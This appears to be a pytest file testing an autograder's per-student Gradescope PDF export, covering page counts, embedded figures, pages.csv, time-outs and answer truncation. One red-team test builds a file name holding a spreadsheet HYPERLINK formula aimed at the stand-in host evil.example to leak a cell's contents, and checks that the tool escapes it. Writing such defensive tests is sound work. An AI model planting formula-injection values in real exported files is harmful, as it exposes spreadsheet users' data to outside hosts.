"""Hand-graded answers as one PDF per student for Gradescope, through the real commands:
    python -m autograder SUBMISSIONS --assignment 00_toy --out OUT
    course pdfs OUT --assignment 00_toy
on two submissions of the toy assignment whose manual answer draws a figure (one drawn by the
grader at plt.show(), one saved in the notebook for a skipped cell). Checked: one PDF each, the
cover page and a page per manual question, each with the student's figure and text in it
(read back from the HTML Chromium printed and from the PDF's image objects), pages.csv.
"""
from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from pathlib import Path

import browser
import hostile
import pytest
from test_grade_lms import saved_png, with_answer

from instructor import gradescope_pdf

REPO = Path(__file__).resolve().parents[2]
pytestmark = [pytest.mark.e2e, browser.needed]
ALICE, CAROL = "alicesmith_10101_20001_00_toy.ipynb", "leecarol_10303_20003_00_toy.ipynb"


@pytest.fixture(autouse=True)
def _browser():
    browser.check()


def run(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, *args], capture_output=True, text=True, timeout=600,
                          cwd=REPO, env=dict(os.environ, OMP_NUM_THREADS="1"))


def test_one_pdf_per_student_with_a_page_per_manual_question_and_its_figure(tmp_path, monkeypatch):
    os.chmod(tmp_path, 0o755)
    subs = tmp_path / "class"
    subs.mkdir()
    (subs / ALICE).write_bytes(with_answer("The loss falls fast, then flattens.", "plt.show()"))
    (subs / CAROL).write_bytes(with_answer("See the saved plot.", "plt.show()", skipped_png=saved_png()))
    out = tmp_path / "out"
    res = run("-m", "autograder", str(subs), "--assignment", str(hostile.FIXTURE), "--out", str(out),
              "--workers", "1", "--no-progress")
    assert res.returncode == 0, res.stdout[-2000:] + res.stderr[-2000:]

    pages = []                                     # keep the HTML Chromium printed, to read it back
    real = gradescope_pdf.print_pdf

    def keep(chromium, page, pdf, profile, timeout=120):
        pages.append(page.read_text(encoding="utf-8"))
        real(chromium, page, pdf, profile, timeout)
    monkeypatch.setattr(gradescope_pdf, "print_pdf", keep)
    assert gradescope_pdf.main([str(out), "--assignment", str(hostile.FIXTURE)]) == 0

    dest = out / "gradescope_pdfs"
    rows = {r["file"]: r for r in csv.DictReader((dest / "pages.csv").open(encoding="utf-8"))}
    assert set(rows) == {ALICE, CAROL}
    manual_questions = 1                           # the toy's q4
    for file, text in zip(sorted(rows), pages, strict=True):
        pdf = (dest / rows[file]["pdf"]).read_bytes()
        assert pdf.startswith(b"%PDF") and b"/Subtype /Image" in pdf, file
        assert int(rows[file]["pages"]) == 1 + manual_questions
        assert rows[file]["id"] in text and "q4 (1.0 points)" in text
        assert text.count("<img ") == 1 and "data:image/png;base64," in text
    assert "The loss falls fast" in pages[0] and "See the saved plot." in pages[1]
    assert "outputs as saved in the student's notebook" in pages[1]


def test_a_folder_that_is_not_course_grade_output_is_refused(tmp_path):
    res = run("-m", "course", "pdfs", str(tmp_path))
    assert res.returncode == 2 and "not a course grade output folder" in res.stderr


FORMULA = '=HYPERLINK("http:||evil.example|?"&A3,"open me").ipynb'
HEAVY, SLOW = "heavy_10505_20005_00_toy.ipynb", "slow_10606_20006_00_toy.ipynb"


def test_red_team_3_one_students_pdf_never_stops_the_class(tmp_path, monkeypatch):
    """A2: pages.csv is escaped as grades.csv is and no PDF's name starts with a formula character;
    A3: one answer's text is cut at handgrading.ANSWER_CHARS with a note, and a student whose PDF runs
    over its time (here a real Chromium stopped at 0.01 s) is a row of pages.csv, not a traceback
    that leaves the students after it without a PDF. The honest rows grade and print as alone."""
    os.chmod(tmp_path, 0o755)
    subs = tmp_path / "class"
    subs.mkdir()
    (subs / ALICE).write_bytes(with_answer("The loss falls fast, then flattens.", "plt.show()"))
    (subs / CAROL).write_bytes(hostile.BLANK.read_bytes())
    (subs / FORMULA).write_bytes(hostile.BLANK.read_bytes())
    (subs / HEAVY).write_bytes(with_answer("\u0b95" * 20_000, "print('y' * 30_000)"))
    (subs / SLOW).write_bytes(with_answer("Slow to print.", "plt.show()"))
    out = tmp_path / "out"
    res = run("-m", "autograder", str(subs), "--assignment", str(hostile.FIXTURE), "--out", str(out),
              "--workers", "2", "--no-progress")
    assert res.returncode == 0, res.stdout[-2000:] + res.stderr[-2000:]
    grades = {r["file"]: r for r in csv.DictReader((out / "grades.csv").open(encoding="utf-8"))}
    assert [grades[f]["total_points_earned"] for f in (ALICE, CAROL)] == ["5.0", "0.0"]

    pages = {}
    real = gradescope_pdf.print_pdf

    def keep(chromium, page, pdf, profile, timeout=60):
        pages[pdf.name] = page.read_text(encoding="utf-8")
        real(chromium, page, pdf, profile, 0.01 if pdf.name.startswith("slow") else timeout)
    monkeypatch.setattr(gradescope_pdf, "print_pdf", keep)
    assert gradescope_pdf.main([str(out), "--assignment", str(hostile.FIXTURE)]) == 0

    dest = out / "gradescope_pdfs"
    raw = (dest / "pages.csv").read_text(encoding="utf-8")
    rows = {r["file"]: r for r in csv.DictReader(io.StringIO(raw, newline=""))}
    assert set(rows) == {ALICE, CAROL, "'" + FORMULA, HEAVY, SLOW}
    assert rows["'" + FORMULA]["pdf"].startswith("_=HYPERLINK(")
    assert not [p for p in os.listdir(dest) if p.startswith(("=", "+", "-", "@"))]
    assert (rows[SLOW]["pdf"], rows[SLOW]["pages"]) == ("", "0")
    assert rows[SLOW]["grading_status"] == "no PDF: Chromium took over 0 s"
    assert not (dest / "slow_10606_20006_00_toy.pdf").exists()
    for f in (ALICE, CAROL, HEAVY):
        assert (dest / rows[f]["pdf"]).read_bytes().startswith(b"%PDF") and rows[f]["pages"] == "2", f
    heavy = pages[rows[HEAVY]["pdf"]]
    assert heavy.count("\u0b95") == gradescope_pdf.handgrading.ANSWER_CHARS      # the markdown, whole
    assert "y" * 100 not in heavy                                            # the budget is spent
    assert "(cut: 6000 characters more; see the notebook)" in heavy          # what it printed (6000 kept)
    assert "The loss falls fast" in pages[rows[ALICE]["pdf"]]
